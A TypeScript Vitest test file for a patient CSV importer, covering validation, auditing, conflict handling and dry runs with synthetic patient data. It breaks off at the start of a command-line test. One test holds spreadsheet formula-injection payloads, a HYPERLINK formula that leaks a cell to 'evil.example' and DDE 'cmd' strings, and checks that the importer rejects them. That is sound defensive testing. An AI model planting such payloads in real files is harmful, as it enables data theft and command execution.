import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { createKnex, repoRoot } from '@portaldesk/db';
import type { Actor } from '../../lib/audit.ts';
import type { Clock } from '../../lib/clock.ts';
import { TestClock, createStaff, uniqueSuffix } from '../../testing/harness.ts';
import { importPatients, type ImportOptions, type ImportProgress, type RowReject } from './patients.import.ts';

const knex = createKnex(inject('databaseUrl'), 4);
afterAll(() => knex.destroy());

const COLUMNS = [
  'mrn',
  'family_name',
  'given_name',
  'date_of_birth',
  'sex',
  'deceased_date',
  'phone',
  'email',
  'address_line1',
  'address_line2',
  'city',
  'state',
  'postal_code',
] as const;
type Cells = Partial<Record<(typeof COLUMNS)[number], string>>;
const HEADER = COLUMNS.join(',');

/** MRNs unique to the test, so parallel test files never meet them. */
let prefix: string;
beforeEach(() => {
  prefix = `I${uniqueSuffix()}`.toUpperCase();
});
const mrn = (n: number) => `${prefix}-${n}`;

const cell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);

/** One CSV line for patient `n`: a valid patient unless `cells` says otherwise. */
function row(n: number, cells: Cells = {}, columns: readonly string[] = COLUMNS): string {
  const values: Record<string, string> = {
    mrn: mrn(n),
    family_name: 'Importfamily',
    given_name: `Given${n}`,
    date_of_birth: '1980-05-17',
    sex: 'female',
    deceased_date: '',
    phone: '860-555-0100',
    email: 'pat@example.com',
    address_line1: '1 Main St',
    address_line2: '',
    city: 'Hartford',
    state: 'CT',
    postal_code: '06106',
    ...cells,
  };
  return columns.map((column) => cell(values[column])).join(',');
}

const csv = (...lines: string[]) => `${lines.join('\n')}\n`;

/** Moved on by the tests that need a later import to be later. */
const clock = new TestClock();
const cliActor = (readClock: Clock = clock.read): Actor => ({
  staffUserId: null,
  username: 'cli:test',
  roles: [],
  clientAddress: null,
  requestId: randomUUID(),
  clock: readClock,
});

function importText(text: string | Buffer, options: Partial<ImportOptions> = {}) {
  return importPatients(knex, Readable.from([text]), { actor: cliActor(), fileName: 'patients.csv', ...options });
}

async function stored(...mrns: string[]) {
  return knex('patients').whereIn('mrn', mrns).orderBy('mrn').select('*');
}

async function storedCount(): Promise<number> {
  const [{ count }] = await knex('patients').where('mrn', 'like', `${prefix}-%`).count<{ count: string }[]>({ count: '*' });
  return Number(count);
}

/** A patient's history rows, oldest first, without their ids. */
async function historyOf(patientId: number) {
  const rows = await knex('patient_field_history').where({ patient_id: patientId }).orderBy('id');
  return rows.map(({ id: _id, patient_id: _patient, ...row }) => row);
}

/**
 * What a staff correction leaves behind (its own API is not what these tests are about): the new
 * column values, the version raised, and the field's history row with `value`.
 */
async function staffChange(patientId: number, field: string, columns: Record<string, string>, value: unknown, changedAt: Date) {
  await knex.transaction(async (trx) => {
    const [{ version }] = await trx('patients')
      .where({ id: patientId })
      .update({ ...columns, version: trx.raw('version + 1') })
      .returning('version');
    await trx('patient_field_history').insert({
      patient_id: patientId,
      field,
      old_value: JSON.stringify(null),
      new_value: JSON.stringify(value),
      changed_at: changedAt,
      source: 'staff_correction',
      reason: 'Patient showed their driving licence',
      version,
    });
  });
}

/** Waits until an import's update of `patients` waits for a row another transaction holds. */
async function waitForImportBlockedOnPatients(): Promise<void> {
  for (let attempt = 0; attempt < 200; attempt += 1) {
    const { rows } = await knex.raw(
      `SELECT 1 FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND wait_event_type = 'Lock' AND query LIKE '%UPDATE patients SET%patient_import_updates%'`,
    );
    if (rows.length) return;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error('the import never waited for the patient row');
}

const problemLines = (rejects: RowReject[]) =>
  rejects.flatMap((reject) => reject.problems.map(({ field, reason }) => `line ${reject.line}: ${field}: ${reason}`));

describe('importPatients', () => {
  it('when a valid file is imported, then every row is inserted with its values normalised', async () => {
    const report = await importText(
      csv(
        HEADER,
        row(1, { sex: 'f', phone: '+1 (860) 555-0199', state: 'ct', postal_code: '061061234', address_line1: '  12  Elm St\nApt 4 ' }),
        row(2, { sex: 'Male', email: '', address_line2: '', deceased_date: '2020-02-29' }),
      ),
    );

    expect(report).toMatchObject({ committed: true, rowsRead: 2, valid: 2, rejected: 0, imported: 2 });
    const [first, second] = await stored(mrn(1), mrn(2));
    expect(first).toMatchObject({
      family_name: 'Importfamily',
      given_name: 'Given1',
      date_of_birth: '1980-05-17',
      sex: 'female',
      deceased_date: null,
      phone: '+18605550199',
      state: 'CT',
      postal_code: '06106-1234',
      address_line1: '12 Elm St Apt 4',
      address_line2: null,
    });
    expect(second).toMatchObject({ sex: 'male', email: null, deceased_date: '2020-02-29' });
  });

  it('when an import commits, then its audit row names the command-line user and the counts, and each new patient gets a row of their own, never with values', async () => {
    const actor = cliActor();
    await importText(csv(HEADER, row(1), row(2)), { actor, fileName: 'extract-2026-11-25.csv' });

    const audits = await knex('audit_events').where({ request_id: actor.requestId }).orderBy('id');
    const run = audits.find((audit) => audit.action === 'import');
    expect(run).toMatchObject({
      staff_user_id: null,
      staff_username: 'cli:test',
      roles: [],
      client_address: null,
      resource: 'patients',
      outcome: 'success',
      details: { fileName: 'extract-2026-11-25.csv', dryRun: false, rowsRead: 2, valid: 2, rejected: 0, inserted: 2, updated: 0 },
    });
    const patients = await stored(mrn(1), mrn(2));
    const perPatient = audits.filter((audit) => audit.action === 'create');
    expect(perPatient.map((audit) => audit.patient_id).sort()).toEqual(patients.map((patient) => patient.id).sort());
    expect(perPatient[0]).toMatchObject({
      resource: 'patients',
      staff_username: 'cli:test',
      details: { source: 'import', fileName: 'extract-2026-11-25.csv' },
    });
    expect(JSON.stringify(audits.map((audit) => audit.details))).not.toMatch(new RegExp(`${prefix}|Importfamily|Given1|1980-05-17`));
  });

  it('when the same file is imported twice, then the second run changes nothing and audits no patient', async () => {
    const file = csv(HEADER, row(1), row(2), row(3));
    await importText(file);
    const before = await stored(mrn(1), mrn(2), mrn(3));

    const actor = cliActor();
    const again = await importText(file, { actor });

    expect(again).toMatchObject({ committed: true, valid: 3, imported: 3 });
    expect(await stored(mrn(1), mrn(2), mrn(3))).toEqual(before);
    const audits = await knex('audit_events').where({ request_id: actor.requestId });
    expect(audits.map((audit) => audit.action)).toEqual(['import']);
    expect(audits[0].details).toMatchObject({ inserted: 0, updated: 0 });
  });

  it("when one phone number changed, then only that patient is updated, and that patient's own audit row names the changed field", async () => {
    await importText(csv(HEADER, row(1), row(2), row(3)));
    const [, untouchedBefore] = await stored(mrn(1), mrn(2));
    clock.advance(60_000);

    const actor = cliActor();
    await importText(csv(HEADER, row(1, { phone: '(203) 555-0142' }), row(2), row(3)), { actor });

    const [changed, untouched] = await stored(mrn(1), mrn(2));
    expect(changed.phone).toBe('+12035550142');
    expect(changed.updated_at.getTime()).toBe(changed.created_at.getTime() + 60_000);
    expect(untouched.updated_at).toEqual(untouchedBefore.updated_at);
    const audits = await knex('audit_events').where({ request_id: actor.requestId }).orderBy('id');
    expect(audits.find((audit) => audit.action === 'import')!.details).toMatchObject({ inserted: 0, updated: 1 });
    expect(audits.filter((audit) => audit.action === 'edit')).toEqual([
      expect.objectContaining({ patient_id: changed.id, resource: 'patients', details: { source: 'import', fileName: 'patients.csv', changed: ['phone'] } }),
    ]);
  });

  it('when an optional column is left out of the file, then the stored values of that column are kept', async () => {
    await importText(csv(HEADER, row(1, { phone: '860-555-0111', email: 'kept@example.com' })));
    const columns = COLUMNS.filter((column) => column !== 'phone' && column !== 'email');

    const actor = cliActor();
    await importText(csv(columns.join(','), row(1, { city: 'New Haven' }, columns)), { actor });

    const [patient] = await stored(mrn(1));
    expect(patient).toMatchObject({ city: 'New Haven', phone: '+18605550111', email: 'kept@example.com' });
    const [edit] = await knex('audit_events').where({ request_id: actor.requestId, action: 'edit' });
    expect(edit.details.changed).toEqual(['city']);
    // The address is one field: the parts the file leaves out keep their stored values.
    expect(await historyOf(patient.id)).toEqual([
      expect.objectContaining({
        field: 'address',
        old_value: { line1: '1 Main St', line2: null, city: 'Hartford', state: 'CT', postal_code: '06106' },
        new_value: { line1: '1 Main St', line2: null, city: 'New Haven', state: 'CT', postal_code: '06106' },
      }),
    ]);
  });

  it('when typed US phone numbers are imported, then each is stored in E.164', async () => {
    await importText(
      csv(HEADER, row(1, { phone: '860.555.0123' }), row(2, { phone: '1 (203) 555-0188' }), row(3, { phone: '+1 860 555 0100' }), row(4, { phone: '' })),
    );

    expect((await stored(mrn(1), mrn(2), mrn(3), mrn(4))).map((patient) => patient.phone)).toEqual(['+18605550123', '+12035550188', '+18605550100', null]);
  });

  it('when an import updates a patient, then each changed field gets one history row with the new version, unchanged fields and new patients none', async () => {
    await importText(csv(HEADER, row(1), row(2)));
    clock.advance(60_000);
    const admin = await createStaff(knex, ['admin']);
    const actor = { ...cliActor(), staffUserId: admin.id, username: admin.username, roles: ['admin'] };

    await importText(
      csv(HEADER, row(1, { family_name: 'Renamed', phone: '(203) 555-0142', address_line2: 'Apt 9', deceased_date: '2020-01-01' }), row(2), row(3)),
      { actor, fileName: 'extract-7.csv' },
    );

    const [changed, unchanged, added] = await stored(mrn(1), mrn(2), mrn(3));
    expect([changed.version, unchanged.version, added.version]).toEqual([2, 1, 1]);
    const common = {
      changed_at: clock.read(),
      changed_by: admin.id,
      source: 'import',
      reason: 'EHR import extract-7.csv',
      change_request_id: null,
      document_id: null,
      version: 2,
    };
    expect(await historyOf(changed.id)).toEqual(
      expect.arrayContaining([
        { ...common, field: 'family_name', old_value: 'Importfamily', new_value: 'Renamed' },
        { ...common, field: 'phone', old_value: '+18605550100', new_value: '+12035550142' },
        {
          ...common,
          field: 'address',
          old_value: { line1: '1 Main St', line2: null, city: 'Hartford', state: 'CT', postal_code: '06106' },
          new_value: { line1: '1 Main St', line2: 'Apt 9', city: 'Hartford', state: 'CT', postal_code: '06106' },
        },
      ]),
    );
    // The date of death is no demographic field: it raises the version but has no history.
    expect(await historyOf(changed.id)).toHaveLength(3);
    expect(await historyOf(unchanged.id)).toEqual([]);
    expect(await historyOf(added.id)).toEqual([]);
  });

  it('when staff changed a field after the extract was made, then the import keeps and reports it, and a change made before the extract is overwritten', async () => {
    await importText(csv(HEADER, row(1), row(2)));
    const [patient] = await stored(mrn(1));
    const extractedAt = new Date(clock.now + 30 * 60_000);
    await staffChange(patient.id, 'email', { email: 'before-extract@example.com' }, 'before-extract@example.com', new Date(clock.now + 10 * 60_000));
    await staffChange(patient.id, 'phone', { phone: '+12035550177' }, '+12035550177', new Date(clock.now + 60 * 60_000));
    clock.advance(2 * 60 * 60_000);
    const actor = cliActor();

    const report = await importText(csv(HEADER, row(1, { city: 'New Haven' }), row(2, { given_name: 'Renamed' })), { actor, extractedAt });

    expect(report).toMatchObject({ committed: true, imported: 2, rejected: 0, conflicted: 1 });
    expect(report.conflicts).toEqual([
      { line: 2, mrn: mrn(1), field: 'phone', changedAt: new Date(extractedAt.getTime() + 30 * 60_000), source: 'staff_correction' },
    ]);
    const [after] = await stored(mrn(1));
    expect(after).toMatchObject({ phone: '+12035550177', email: 'pat@example.com', city: 'New Haven', version: 4 });
    const byImport = (await historyOf(patient.id)).filter((entry) => entry.source === 'import');
    expect(byImport.map((entry) => [entry.field, entry.old_value, entry.version])).toEqual(
      expect.arrayContaining([
        ['email', 'before-extract@example.com', 4],
        ['address', expect.objectContaining({ city: 'Hartford' }), 4],
      ]),
    );
    expect(byImport).toHaveLength(2);
    const audits = await knex('audit_events').where({ request_id: actor.requestId }).orderBy('id');
    expect(audits.find((audit) => audit.action === 'import')!.details).toMatchObject({ updated: 2, conflicted: 1 });
    expect(audits.find((audit) => audit.action === 'edit' && audit.patient_id === patient.id)!.details.changed).toEqual(['email', 'city']);
  });

  it('when every change a row brings conflicts, then that patient is left exactly as staff left it', async () => {
    await importText(csv(HEADER, row(1)));
    const [patient] = await stored(mrn(1));
    await staffChange(patient.id, 'family_name', { family_name: 'Corrected' }, 'Corrected', new Date(clock.now + 60_000));
    const [before] = await stored(mrn(1));
    clock.advance(2 * 60_000);
    const actor = cliActor();

    const report = await importText(csv(HEADER, row(1)), { actor, extractedAt: new Date(clock.now - 2 * 60_000) });

    expect(report).toMatchObject({ committed: true, conflicted: 1, conflicts: [expect.objectContaining({ field: 'family_name' })] });
    expect(await stored(mrn(1))).toEqual([before]);
    const audits = await knex('audit_events').where({ request_id: actor.requestId });
    expect(audits.map((audit) => audit.action)).toEqual(['import']);
    expect(audits[0].details).toMatchObject({ updated: 0, conflicted: 1 });
  });

  it("when no extract time is given, then a staff change newer than the field's last import is reported, and a field last written by an import is not", async () => {
    await importText(csv(HEADER, row(1)));
    const [patient] = await stored(mrn(1));
    clock.advance(60_000);
    await importText(csv(HEADER, row(1, { phone: '203-555-0101' })));
    await staffChange(patient.id, 'email', { email: 'desk@example.com' }, 'desk@example.com', new Date(clock.now + 60_000));
    clock.advance(2 * 60_000);

    const report = await importText(csv(HEADER, row(1, { phone: '203-555-0102' })));

    expect(report).toMatchObject({ conflicted: 1, conflicts: [expect.objectContaining({ mrn: mrn(1), field: 'email', source: 'staff_correction' })] });
    expect((await stored(mrn(1)))[0]).toMatchObject({ phone: '+12035550102', email: 'desk@example.com' });
    const phones = (await historyOf(patient.id)).filter((entry) => entry.field === 'phone');
    expect(phones.map((entry) => [entry.old_value, entry.new_value, entry.version])).toEqual([
      ['+18605550100', '+12035550101', 2],
      ['+12035550101', '+12035550102', 4],
    ]);
  });

  it('when dry runs give a staff-changed field every possible value, then each lists the same conflict: an importer cannot test guesses at it', async () => {
    await importText(csv(HEADER, row(1)));
    const [patient] = await stored(mrn(1));
    await staffChange(patient.id, 'sex', { sex: 'male' }, 'male', new Date(clock.now + 60_000));
    clock.advance(2 * 60_000);

    const listed = [];
    for (const sex of ['female', 'male', 'other', 'unknown']) {
      const report = await importText(csv(HEADER, row(1, { given_name: 'Probe', sex })), { dryRun: true });
      listed.push(report.conflicts.map((conflict) => conflict.field));
    }

    expect(listed).toEqual([['sex'], ['sex'], ['sex'], ['sex']]);
  });

  it('when a dry run meets a conflict, then it reports it and writes nothing', async () => {
    await importText(csv(HEADER, row(1), row(2)));
    const [patient] = await stored(mrn(1));
    const address = { line1: '5 Staff Ave', line2: null, city: 'Hartford', state: 'CT', postal_code: '06106' };
    await staffChange(patient.id, 'address', { address_line1: address.line1 }, address, new Date(clock.now + 60_000));
    const before = await stored(mrn(1), mrn(2));
    const historyBefore = await historyOf(patient.id);
    clock.advance(2 * 60_000);

    const report = await importText(csv(HEADER, row(1, { given_name: 'Changed' }), row(2, { sex: 'male' })), {
      dryRun: true,
      extractedAt: new Date(clock.now - 90_000),
    });

    expect(report).toMatchObject({ dryRun: true, committed: false, imported: 0, conflicted: 1, conflicts: [{ line: 2, mrn: mrn(1), field: 'address' }] });
    expect(await stored(mrn(1), mrn(2))).toEqual(before);
    expect(await historyOf(patient.id)).toEqual(historyBefore);
  });

  it('when more fields conflict than the report keeps, then the count covers them all', async () => {
    const lines = Array.from({ length: 1_001 }, (_, i) => row(i));
    await importText(csv(HEADER, ...lines));
    const patients = await knex('patients').where('mrn', 'like', `${prefix}-%`).select('id');
    const changedAt = new Date(clock.now + 60_000);
    await knex.transaction(async (trx) => {
      await trx('patients')
        .whereIn(
          'id',
          patients.map((patient) => patient.id),
        )
        .update({ sex: 'unknown', version: 2 });
      await trx('patient_field_history').insert(
        patients.map((patient) => ({
          patient_id: patient.id,
          field: 'sex',
          old_value: '"female"',
          new_value: '"unknown"',
          changed_at: changedAt,
          source: 'staff_correction',
          reason: 'Asked',
          version: 2,
        })),
      );
    });
    clock.advance(2 * 60_000);

    const report = await importText(csv(HEADER, ...lines), { dryRun: true });

    expect(report.conflicted).toBe(1_001);
    expect(report.conflicts).toHaveLength(1_000);
    expect(report.conflicts.map((conflict) => conflict.line)).toEqual(Array.from({ length: 1_000 }, (_, i) => i + 2));
  });

  it('when staff save a patient while an import is merging it, then the import is refused rather than overwrite their change', async () => {
    await importText(csv(HEADER, row(1)));
    const [patient] = await stored(mrn(1));
    const staff = await knex.transaction();
    try {
      // The correction holds the row until it commits; the import read the version before it.
      await staff('patients')
        .where({ id: patient.id })
        .update({ email: 'late@example.com', version: staff.raw('version + 1') });
      const importing = importText(csv(HEADER, row(1, { phone: '203-555-0100' }))).catch((error: unknown) => error);
      await waitForImportBlockedOnPatients();
      await staff.commit();

      expect(await importing).toMatchObject({ status: 409, code: 'import_conflict' });
    } finally {
      if (!staff.isCompleted()) await staff.rollback();
    }
    expect((await stored(mrn(1)))[0]).toMatchObject({ email: 'late@example.com', phone: '+18605550100', version: 2 });
    expect(await historyOf(patient.id)).toEqual([]);
  });

  it('when the extract time is in the future, then the import is refused', async () => {
    await expect(importText(csv(HEADER, row(1)), { extractedAt: new Date(clock.now + 60_000) })).rejects.toMatchObject({
      status: 400,
      code: 'validation_failed',
    });
    expect(await storedCount()).toBe(0);
  });

  it('when it is a dry run, then it checks the file and writes nothing', async () => {
    const actor = cliActor();
    const newPatients = await importText(csv(HEADER, row(1), row(2)), { dryRun: true, actor });
    expect(newPatients).toMatchObject({ dryRun: true, committed: false, valid: 2, rejected: 0, imported: 0 });
    expect(await storedCount()).toBe(0);
    const audits = await knex('audit_events').where({ request_id: actor.requestId });
    expect(audits).toEqual([expect.objectContaining({ action: 'import', outcome: 'success', details: expect.objectContaining({ dryRun: true, valid: 2 }) })]);
  });

  it('when a one-row dry run names a stored patient, then its report is the same whether the MRN exists and whether the name and birth date match', async () => {
    await importText(csv(HEADER, row(1)));
    const reportOf = async (line: string) => {
      const { seconds: _seconds, ...report } = await importText(csv(HEADER, line), { dryRun: true });
      return report;
    };
    const exact = await reportOf(row(1));
    expect(await reportOf(row(1, { given_name: 'Guessed', date_of_birth: '1970-01-01' }))).toEqual(exact);
    expect(await reportOf(row(99))).toEqual(exact);
    // The same holds for a real import that changes nothing: no counts of matches come back.
    const { seconds: _seconds, ...unchanged } = await importText(csv(HEADER, row(1)));
    const { seconds: _other, ...inserted } = await importText(csv(HEADER, row(98)));
    expect(unchanged).toEqual(inserted);
  });

  it('when one row among good ones is bad, then nothing at all is written and the bad row is reported', async () => {
    const actor = cliActor();
    const report = await importText(csv(HEADER, row(1), row(2, { date_of_birth: '2023-02-30' }), row(3)), { actor });

    expect(report).toMatchObject({ committed: false, rowsRead: 3, valid: 2, rejected: 1, imported: 0 });
    expect(report.rejects).toEqual([{ line: 3, mrn: mrn(2), problems: [{ field: 'date_of_birth', reason: 'is not a real calendar date' }] }]);
    expect(await storedCount()).toBe(0);
    const [audit] = await knex('audit_events').where({ request_id: actor.requestId });
    expect(audit).toMatchObject({ outcome: 'failed', details: { rejected: 1, inserted: 0 } });
  });

  it('when a changed file has a bad row, then the stored patients keep their old values', async () => {
    await importText(csv(HEADER, row(1), row(2)));

    const report = await importText(csv(HEADER, row(1, { family_name: 'Renamed' }), row(2, { sex: 'X' }), row(3)));

    expect(report).toMatchObject({ committed: false, rejected: 1 });
    expect((await stored(mrn(1)))[0].family_name).toBe('Importfamily');
    expect(await storedCount()).toBe(2);
  });

  it('when the file has only a header, then it is a valid import of no rows', async () => {
    const report = await importText(`${HEADER}\r\n`);

    expect(report).toMatchObject({ committed: true, rowsRead: 0, valid: 0, rejected: 0, imported: 0 });
  });

  it('when the file is empty or blank, then it is refused as empty', async () => {
    for (const text of ['', '\ufeff', '\n\r\n   \n']) {
      await expect(importText(text)).rejects.toMatchObject({ status: 400, code: 'csv_empty' });
    }
  });

  it('when a required column is missing, then the whole file is refused and nothing is written', async () => {
    const columns = COLUMNS.filter((column) => column !== 'sex');
    const refused = importText(csv(columns.join(','), row(1, {}, columns), row(2, {}, columns)));

    await expect(refused).rejects.toMatchObject({ status: 400, code: 'csv_columns', message: expect.stringContaining('missing required column(s): sex') });
    expect(await storedCount()).toBe(0);
  });

  it('when the header names an unknown or repeated column, then the whole file is refused', async () => {
    await expect(importText(csv(`${HEADER},nickname`, `${row(1)},Patty`))).rejects.toMatchObject({
      code: 'csv_columns',
      message: expect.stringContaining('unknown column(s) "nickname"'),
    });
    await expect(importText(csv(`${HEADER},mrn`, `${row(1)},${mrn(1)}`))).rejects.toMatchObject({
      code: 'csv_columns',
      message: expect.stringContaining('more than once: mrn'),
    });
    expect(await storedCount()).toBe(0);
  });

  it('when the first line is a patient rather than a header, then the file is refused without repeating its values', async () => {
    const refused = await importText(csv(row(1), row(2))).catch((error: Error) => error);

    expect(refused).toMatchObject({ code: 'csv_columns', message: expect.stringContaining('not a header row') });
    expect((refused as Error).message).not.toContain(prefix);
    expect((refused as Error).message).not.toContain('Importfamily');
  });

  it('when rows are ragged, then each is rejected with its line and the other rows are still checked', async () => {
    const report = await importText(csv(HEADER, row(1), `${row(2)},extra`, row(3).split(',').slice(0, 5).join(','), row(4, { date_of_birth: '13/45/2001' })));

    expect(report).toMatchObject({ committed: false, rowsRead: 4, valid: 1, rejected: 3 });
    expect(problemLines(report.rejects)).toEqual([
      'line 3: row: has 14 cells; the header has 13',
      'line 4: row: has 5 cells; the header has 13',
      'line 5: date_of_birth: must be a date as YYYY-MM-DD',
    ]);
    expect(report.rejects.map((reject) => reject.mrn)).toEqual([mrn(2), mrn(3), mrn(4)]);
  });

  it('when the file has a BOM and CRLF line endings and arrives in small chunks, then it imports cleanly', async () => {
    const bytes = Buffer.from(`\ufeff${[HEADER, row(1), row(2, { address_line1: '9 Oak Rd\r\nUnit 2' })].join('\r\n')}\r\n`);
    const chunks = Array.from({ length: Math.ceil(bytes.length / 2) }, (_, i) => bytes.subarray(i * 2, i * 2 + 2));

    const report = await importPatients(knex, Readable.from(chunks), { actor: cliActor(), fileName: 'windows.csv' });

    expect(report).toMatchObject({ committed: true, imported: 2, rejected: 0 });
    const [first, second] = await stored(mrn(1), mrn(2));
    expect(first.postal_code).toBe('06106');
    expect(second.address_line1).toBe('9 Oak Rd Unit 2');
  });

  it('when dates are impossible, malformed, in the future or before 1900, then each row is rejected naming the field', async () => {
    const fixedDay = () => new Date('2026-01-15T12:00:00Z');
    const report = await importText(
      csv(
        HEADER,
        row(1, { date_of_birth: '2026-01-15' }),
        row(2, { date_of_birth: '2023-02-30' }),
        row(3, { date_of_birth: '13/45/2001' }),
        row(4, { date_of_birth: '2026-01-16' }),
        row(5, { date_of_birth: '1899-12-31' }),
        row(6, { date_of_birth: '' }),
        row(7, { deceased_date: '1979-01-01' }),
        row(8, { deceased_date: '2027-01-01' }),
      ),
      { actor: cliActor(fixedDay) },
    );

    expect(problemLines(report.rejects)).toEqual([
      'line 3: date_of_birth: is not a real calendar date',
      'line 4: date_of_birth: must be a date as YYYY-MM-DD',
      'line 5: date_of_birth: is in the future',
      'line 6: date_of_birth: is before 1900',
      'line 7: date_of_birth: is required',
      'line 8: deceased_date: is before the date of birth',
      'line 9: deceased_date: is in the future',
    ]);
    expect(report).toMatchObject({ valid: 1, rejected: 7, committed: false });
  });

  it('when fields are malformed, then the row is rejected with one reason per field', async () => {
    const report = await importText(
      csv(
        HEADER,
        row(1, { mrn: 'has space', family_name: '', sex: 'constructor', phone: '555-0100', email: 'not-an-email', state: 'ZZ', postal_code: '6106' }),
      ),
    );

    expect(report.rejects).toEqual([
      {
        line: 2,
        mrn: null,
        problems: [
          { field: 'mrn', reason: "must be 1-32 letters, digits, '.', '_' or '-', starting with a letter or digit" },
          { field: 'family_name', reason: 'is required' },
          { field: 'sex', reason: 'must be female, male, other or unknown (or F, M, O, U)' },
          { field: 'phone', reason: 'must be a 10-digit US phone number' },
          { field: 'email', reason: 'must be an email address' },
          { field: 'state', reason: 'must be a two-letter US state code' },
          { field: 'postal_code', reason: 'must be a 5- or 9-digit ZIP code (a spreadsheet may have dropped a leading zero)' },
        ],
      },
    ]);
  });

  it('when cells look like spreadsheet formulas, then their rows are rejected without echoing them and nothing is written', async () => {
    const report = await importText(
      csv(
        HEADER,
        row(1, { family_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' }),
        row(2, { given_name: "+cmd|' /C calc'!A0" }),
        row(3, { address_line1: "@SUM(1+1)*cmd|' /C calc'!A0" }),
        row(4, { city: '-2+3' }),
        row(5, { address_line2: '\t=1+1' }),
        row(6, { phone: '+1 860 555 0100' }),
      ),
    );

    const formula = 'starts with =, +, -, @, tab or CR, which a spreadsheet would run as a formula';
    expect(problemLines(report.rejects)).toEqual([
      `line 2: family_name: ${formula}`,
      `line 3: given_name: ${formula}`,
      `line 4: address_line1: ${formula}`,
      `line 5: city: ${formula}`,
      `line 6: address_line2: ${formula}`,
    ]);
    expect(report).toMatchObject({ valid: 1, committed: false });
    expect(await storedCount()).toBe(0);
  });

  it('when an MRN appears twice in the file, then both rows are rejected naming both lines', async () => {
    const report = await importText(csv(HEADER, row(1), row(2), row(3), row(1, { given_name: 'Other' })));

    expect(report).toMatchObject({ rowsRead: 4, valid: 2, rejected: 2, committed: false });
    expect(report.rejects).toEqual([
      { line: 2, mrn: mrn(1), problems: [{ field: 'mrn', reason: 'appears on 2 lines of the file: 2, 5' }] },
      { line: 5, mrn: mrn(1), problems: [{ field: 'mrn', reason: 'appears on 2 lines of the file: 2, 5' }] },
    ]);
    expect(await storedCount()).toBe(0);
  });

  it('when a quoted address spans several lines, then later rows keep their physical line numbers', async () => {
    for (const eol of ['\n', '\r\n']) {
      const text = [HEADER, row(1, { address_line1: `1 Main St${eol}Apt 4${eol}Rear` }), row(2, { sex: '?' }), ''].join(eol);

      const report = await importText(text);

      expect(problemLines(report.rejects)).toEqual(['line 5: sex: must be female, male, other or unknown (or F, M, O, U)']);
    }
  });

  it('when a quote is never closed, then the file is refused naming the line where the row starts', async () => {
    const text = csv(HEADER, row(1), row(2), `${row(3, { city: 'x' }).replace(',x,', ',"Hart\nford,')}`, row(4), row(5));

    await expect(importText(text)).rejects.toMatchObject({
      status: 400,
      code: 'csv_malformed',
      message: 'Line 4: a quoted cell is never closed. The file is not valid CSV; nothing was imported.',
    });
    await expect(importText(csv(HEADER, row(1), row(2, { city: 'x' }).replace(',x,', ',Hart"ford",')))).rejects.toMatchObject({
      code: 'csv_malformed',
      message: expect.stringMatching(/^Line 3: a quote appears inside a cell/),
    });
    expect(await storedCount()).toBe(0);
  });

  it('when the file is not UTF-8, then the rows with undecodable text are rejected', async () => {
    const latin1 = Buffer.concat([Buffer.from(csv(HEADER, row(1)), 'utf8'), Buffer.from(`${row(2, { family_name: 'Müller' })}\n`, 'latin1')]);

    const report = await importText(latin1);

    expect(problemLines(report.rejects)).toEqual(['line 3: family_name: contains control characters or text that is not UTF-8']);
  });

  it('when more rows are rejected than the report keeps, then every one still reaches onReject', async () => {
    const seen: RowReject[] = [];
    const lines = Array.from({ length: 1_500 }, (_, i) => row(i, { sex: 'none' }));

    const report = await importText(csv(HEADER, ...lines), { onReject: (reject) => seen.push(reject) });

    expect(report).toMatchObject({ rejected: 1_500 });
    expect(report.rejects).toHaveLength(1_000);
    expect(seen).toHaveLength(1_500);
    expect(seen.at(-1)?.line).toBe(1_501);
  });

  it('when the source fails half way, then nothing is written and the error comes back', async () => {
    const actor = cliActor();
    async function* failing() {
      yield csv(HEADER, row(1), row(2));
      throw new Error('disk went away');
    }

    await expect(importPatients(knex, Readable.from(failing()), { actor, fileName: 'broken.csv' })).rejects.toThrow('disk went away');

    expect(await storedCount()).toBe(0);
    const [audit] = await knex('audit_events').where({ request_id: actor.requestId });
    expect(audit).toMatchObject({ outcome: 'failed', details: { fileName: 'broken.csv', error: 'error' } });
  });

  it('when the import is aborted, then nothing is written', async () => {
    const controller = new AbortController();
    async function* slow() {
      yield csv(HEADER, row(1), row(2));
      controller.abort();
      yield csv(row(3));
    }

    await expect(importPatients(knex, Readable.from(slow()), { actor: cliActor(), fileName: 'p.csv', signal: controller.signal })).rejects.toMatchObject({
      name: 'AbortError',
    });
    expect(await storedCount()).toBe(0);
  });

  it('when a file of 200,000 rows streams in, then every row is counted and the source is read as it goes', { timeout: 120_000 }, async () => {
    const total = 200_000;
    let generated = 0;
    async function* lazyFile() {
      yield `${HEADER}\n`;
      while (generated < total) {
        let chunk = '';
        for (let i = 0; i < 1_000; i += 1) chunk += `${row(generated + i, { given_name: `G${generated + i}` })}\n`;
        generated += 1_000;
        yield chunk;
      }
    }
    const progress: ImportProgress[] = [];
    let furthestAhead = 0;

    const report = await importPatients(knex, Readable.from(lazyFile()), {
      actor: cliActor(),
      fileName: 'large.csv',
      onProgress: (event) => {
        progress.push(event);
        if (event.phase === 'reading') furthestAhead = Math.max(furthestAhead, generated - event.rowsRead);
      },
    });

    expect(report).toMatchObject({ committed: true, rowsRead: total, valid: total, rejected: 0, imported: total });
    expect(await storedCount()).toBe(total);
    expect(progress.filter((event) => event.phase === 'reading').map((event) => event.rowsRead)).toEqual([50_000, 100_000, 150_000, 200_000]);
    expect(progress.at(-1)).toMatchObject({ phase: 'saving', rowsRead: total });
    // Had the whole file been read before validation, the source would be 150,000 rows ahead.
    expect(furthestAhead).toBeLessThan(20_000);
  });
});

describe('npm run import:patients', () => {
  function runCli(...args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
    return new Promise((resolve, reject) => {
      const child = spawn('npx', ['tsx', 'scripts/src/import-patients.ts', ...args], {
        cwd: repoRoot,
        env: { ...process.env, DATABASE_URL: inject('databaseUrl') },
      });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (data) => (stdout += data));
      child.stderr.on('data', (data) => (stderr += data));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
  }

  it('when run from the command line, then it exits 0, 1 or 2 and prints the summary and the rejects', { timeout: 90_000 }, async () => {
